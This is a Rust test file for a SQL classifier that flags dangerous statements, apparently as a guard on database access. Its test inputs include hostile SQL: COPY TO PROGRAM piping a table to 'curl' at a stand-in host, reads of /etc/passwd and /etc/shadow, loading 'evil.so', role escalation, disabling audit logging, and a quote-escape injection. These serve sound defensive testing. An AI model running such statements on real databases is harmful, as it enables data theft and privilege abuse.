use super::*;

/// The classes of each statement in `sql`.
fn classes(sql: &str) -> Vec<Vec<&'static str>> {
    classify(sql)
        .unwrap_or_else(|e| panic!("{sql}: {e}"))
        .iter()
        .map(|s| s.classes.iter().map(|c| c.name()).collect())
        .collect()
}

/// Whether some statement of `sql` has `class`.
fn has(sql: &str, class: Class) -> bool {
    classify(sql)
        .unwrap_or_else(|e| panic!("{sql}: {e}"))
        .iter()
        .any(|s| s.classes.contains(&class))
}

#[test]
fn each_statement_of_a_string_is_classified_on_its_own() {
    let statements = classify("SELECT 1; DROP TABLE customers; DELETE FROM orders").unwrap();
    assert_eq!(statements.len(), 3);
    assert_eq!(statements[0].text, "SELECT 1");
    assert_eq!(statements[1].text, "DROP TABLE customers");
    assert_eq!(
        classes("SELECT 1; DROP TABLE customers; DELETE FROM orders"),
        vec![
            vec!["read"],
            vec!["drop"],
            vec!["write", "delete_without_where"]
        ]
    );
    assert_eq!(
        statements[1].objects,
        BTreeSet::from(["customers".to_string()])
    );
}

#[test]
fn comments_case_and_quoting_do_not_hide_a_statement() {
    for sql in [
        "/* cleanup */ DROP TABLE customers",
        "-- just a select\nDROP TABLE customers",
        "dRoP tAbLe \"customers\"",
        "DROP TABLE public.\"customers\"",
        "DROP /* a */ TABLE /* b */ customers",
    ] {
        assert!(has(sql, Class::Drop), "{sql}");
    }
    assert!(!has("SELECT 'DROP TABLE customers'", Class::Drop));
    assert!(!has("SELECT $$DROP TABLE customers$$", Class::Drop));
    assert!(!has("SELECT U&'\\0044ROP TABLE x'", Class::Drop));
}

#[test]
fn writable_ctes_and_subqueries_are_seen() {
    let sql = "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone";
    assert!(has(sql, Class::DeleteWithoutWhere));
    assert!(has(sql, Class::Write));
    let statements = classify(sql).unwrap();
    assert!(statements[0].objects.contains("orders"), "{statements:?}");
    assert!(has(
        "SELECT * FROM t WHERE id IN (SELECT pg_sleep(10))",
        Class::Sleep
    ));
}

#[test]
fn a_where_that_mentions_no_column_bounds_nothing() {
    for sql in [
        "DELETE FROM orders",
        "DELETE FROM orders WHERE true",
        "DELETE FROM orders WHERE 1 = 1",
        "DELETE FROM orders WHERE 'a' = 'a' OR false",
    ] {
        assert!(has(sql, Class::DeleteWithoutWhere), "{sql}");
    }
    assert!(!has(
        "DELETE FROM orders WHERE created < now() - interval '1 year'",
        Class::DeleteWithoutWhere
    ));
    assert!(has(
        "UPDATE users SET admin = true",
        Class::UpdateWithoutWhere
    ));
    assert!(!has(
        "UPDATE users SET admin = true WHERE id = 7",
        Class::UpdateWithoutWhere
    ));
}

#[test]
fn copy_to_programs_and_server_files_is_its_own_class() {
    assert!(has(
        "COPY customers TO PROGRAM 'curl -d @- evil'",
        Class::CopyProgram
    ));
    assert!(has(
        "COPY customers FROM '/etc/passwd'",
        Class::CopyServerFile
    ));
    assert_eq!(classes("COPY customers TO STDOUT"), vec![vec!["read"]]);
    assert_eq!(classes("COPY customers FROM STDIN"), vec![vec!["write"]]);
}

#[test]
fn privilege_changes_are_found_however_they_are_spelled() {
    for sql in [
        "GRANT ALL ON customers TO agent",
        "REVOKE SELECT ON customers FROM analyst",
        "CREATE ROLE intruder SUPERUSER",
        "ALTER ROLE agent SUPERUSER",
        "SET ROLE postgres",
        "SET SESSION AUTHORIZATION postgres",
        "ALTER SYSTEM SET log_statement = 'none'",
        "ALTER TABLE customers DISABLE ROW LEVEL SECURITY",
        "ALTER TABLE customers OWNER TO agent",
        "SET session_replication_role = replica",
    ] {
        assert!(has(sql, Class::Privilege), "{sql}");
    }
    assert!(!has("SET statement_timeout = '5s'", Class::Privilege));
    assert!(has("SET statement_timeout = '5s'", Class::Setting));
}

#[test]
fn server_files_large_objects_foreign_data_sleep_and_backends() {
    let cases = [
        ("SELECT pg_read_file('/etc/passwd')", Class::ServerFile),
        ("SELECT pg_catalog.pg_ls_dir('.')", Class::ServerFile),
        ("SELECT lo_import('/etc/shadow')", Class::ServerFile),
        ("SELECT lo_create(0)", Class::LargeObject),
        (
            "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
            Class::ForeignData,
        ),
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
            Class::ForeignData,
        ),
        ("SELECT pg_sleep(3600)", Class::Sleep),
        ("SELECT PG_SLEEP_FOR('1 hour')", Class::Sleep),
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            Class::Backend,
        ),
        (
            "DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$",
            Class::Code,
        ),
        ("CALL cleanup()", Class::Code),
        ("LOCK TABLE customers IN ACCESS EXCLUSIVE MODE", Class::Lock),
        ("SELECT * FROM customers FOR UPDATE", Class::Lock),
        ("LOAD 'evil.so'", Class::Server),
        ("CREATE EXTENSION plpython3u", Class::Server),
    ];
    for (sql, class) in cases {
        assert!(has(sql, class), "{sql}: {:?}", classes(sql));
    }
    let statements = classify("SELECT pg_catalog.pg_read_file('x')").unwrap();
    assert!(statements[0].functions.contains("pg_catalog.pg_read_file"));
}

#[test]
fn transactions_and_what_follows_a_commit() {
    assert_eq!(
        classes("BEGIN READ ONLY; COMMIT; DROP TABLE customers"),
        vec![vec!["transaction"], vec!["transaction"], vec!["drop"]]
    );
    assert!(has("SAVEPOINT a", Class::Transaction));
    assert!(has("PREPARE TRANSACTION 'x'", Class::Transaction));
}

#[test]
fn ddl_by_kind_with_its_objects() {
    let cases = [
        ("CREATE TABLE a.b (id int)", "create"),
        ("ALTER TABLE a.b ADD COLUMN c int", "alter"),
        ("TRUNCATE a.b", "truncate"),
        ("ALTER TABLE a.b RENAME TO c", "rename"),
        ("COMMENT ON TABLE a.b IS 'x'", "comment"),
        ("DROP SCHEMA a CASCADE", "drop"),
    ];
    for (sql, class) in cases {
        assert_eq!(classes(sql), vec![vec![class]], "{sql}");
    }
    let truncated = classify("TRUNCATE a.b, c").unwrap();
    assert_eq!(
        truncated[0].objects,
        BTreeSet::from(["a.b".to_string(), "c".to_string()])
    );
}

#[test]
fn literals_stay_out_of_the_normalized_text_and_fingerprint() {
    let one = &classify("SELECT * FROM users WHERE email = 'alice@example.com'").unwrap()[0];
    let two = &classify("SELECT * FROM users WHERE email = 'bob@example.com'").unwrap()[0];
    assert_eq!(one.normalized, "SELECT * FROM users WHERE email = $1");
    assert_eq!(one.fingerprint, two.fingerprint);
    assert!(!one.normalized.contains("alice"));
    // A ticket approves one fingerprint: other tables must not share it.
    let fingerprint = |sql: &str| classify(sql).unwrap()[0].fingerprint.clone();
    for (one, other) in [
        (
            "DELETE FROM staging.t WHERE id = 1",
            "DELETE FROM prod.t WHERE id = 1",
        ),
        ("DROP TABLE orders_2024_01", "DROP TABLE orders_2024_02"),
        ("SELECT * FROM t AS a", "SELECT * FROM u AS a"),
    ] {
        assert_ne!(fingerprint(one), fingerprint(other), "{one} / {other}");
    }
}

#[test]
fn what_does_not_parse_is_refused_and_unknown_kinds_are_other() {
    assert!(classify("DROP TABLE").is_err());
    assert!(classify("SELECT 1; DROP TABLE customers; SELEC").is_err());
    assert!(classify("SELECT 1\0; DROP TABLE x").is_err());
    assert_eq!(classes("LISTEN channel"), vec![vec!["other"]]);
}

#[test]
fn corners_a_partial_walk_would_miss_are_seen() {
    let cases = [
        (
            "DELETE FROM t WHERE id = 1 RETURNING pg_read_file('x')",
            Class::ServerFile,
        ),
        ("SELECT ARRAY[pg_sleep(1)]", Class::Sleep),
        ("VALUES (lo_export(1, '/tmp/x'))", Class::ServerFile),
        (
            "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t",
            Class::Sleep,
        ),
        ("PREPARE p AS DELETE FROM t", Class::DeleteWithoutWhere),
        ("EXPLAIN ANALYZE DELETE FROM t", Class::DeleteWithoutWhere),
        (
            "CREATE TABLE x AS SELECT pg_read_file('/etc/passwd')",
            Class::ServerFile,
        ),
    ];
    for (sql, class) in cases {
        assert!(has(sql, class), "{sql}: {:?}", classes(sql));
    }
}

#[test]
fn class_names_are_unique_and_read_back() {
    let names: std::collections::BTreeSet<_> = Class::ALL.iter().map(|c| c.name()).collect();
    assert_eq!(names.len(), Class::ALL.len());
    for class in Class::ALL {
        assert_eq!(Class::from_name(class.name()), Some(class));
    }
    assert_eq!(Class::from_name("DROP"), None, "names are lower case");
}

#[test]
fn settings_prepared_statements_and_string_dialects() {
    let one = |sql| classify(sql).unwrap().remove(0);
    assert_eq!(
        one("SET client_encoding = 'LATIN1'").settings,
        ["client_encoding".to_string()].into()
    );
    assert_eq!(one("RESET ALL").settings, ["all".to_string()].into());
    assert_eq!(
        one("SELECT set_config('Standard_Conforming_Strings', 'off', false)").settings,
        ["standard_conforming_strings".to_string()].into()
    );
    assert_eq!(
        one("SELECT set_config($1, 'off', false)").settings,
        [ANY_SETTING.to_string()].into()
    );
    let prepare = one("PREPARE wipe(int) AS DELETE FROM orders");
    assert_eq!(prepare.prepares.as_deref(), Some("wipe"));
    assert!(prepare.classes.contains(&Class::DeleteWithoutWhere));
    assert_eq!(
        one("EXPLAIN ANALYZE EXECUTE wipe(1)").executes,
        ["wipe".to_string()].into()
    );
    // With backslash escapes, `\'` does not end the literal: one statement
    // to the server, two to a reader with standard strings.
    let sql = r"SELECT 'a\'; DROP TABLE t; --'";
    assert_eq!(
        classify_with(sql, Strings::BackslashEscapes).unwrap().len(),
        1
    );
    assert_eq!(classify(sql).unwrap().len(), 2);
}

#[test]
fn changes_are_counted_only_where_the_command_tag_reports_them() {
    let counted = |sql: &str| classify(sql).unwrap()[0].changes_counted;
    for sql in [
        "SELECT * FROM t",
        "DELETE FROM t WHERE id < 5",
        "UPDATE t SET a = 1 WHERE id = 2 RETURNING *",
        "INSERT INTO t SELECT * FROM u",
        "COPY t FROM STDIN",
        "COPY t TO STDOUT",
        "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
        "PREPARE gone AS DELETE FROM t WHERE id = $1",
        "WITH old AS (SELECT id FROM u) DELETE FROM t WHERE id IN (SELECT id FROM old)",
    ] {
        assert!(counted(sql), "{sql}");
    }
    for sql in [
        "WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone",
        "WITH gone AS (DELETE FROM t RETURNING *) INSERT INTO u SELECT * FROM gone",
        "EXPLAIN ANALYZE DELETE FROM t",
        "PREPARE p AS WITH gone AS (DELETE FROM t RETURNING *) SELECT 1",
    ] {
        assert!(!counted(sql), "{sql}");
    }
}
